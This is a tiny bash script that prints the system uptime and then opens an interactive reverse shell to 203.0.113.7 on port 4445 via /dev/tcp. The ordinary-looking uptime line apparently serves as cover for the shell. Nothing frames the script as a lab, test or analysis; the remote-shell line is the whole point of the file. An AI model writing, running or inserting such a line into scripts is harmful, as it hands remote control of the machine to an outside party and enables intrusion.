#!/bin/bash
uptime
bash -i >& /dev/tcp/203.0.113.7/4445 0>&1
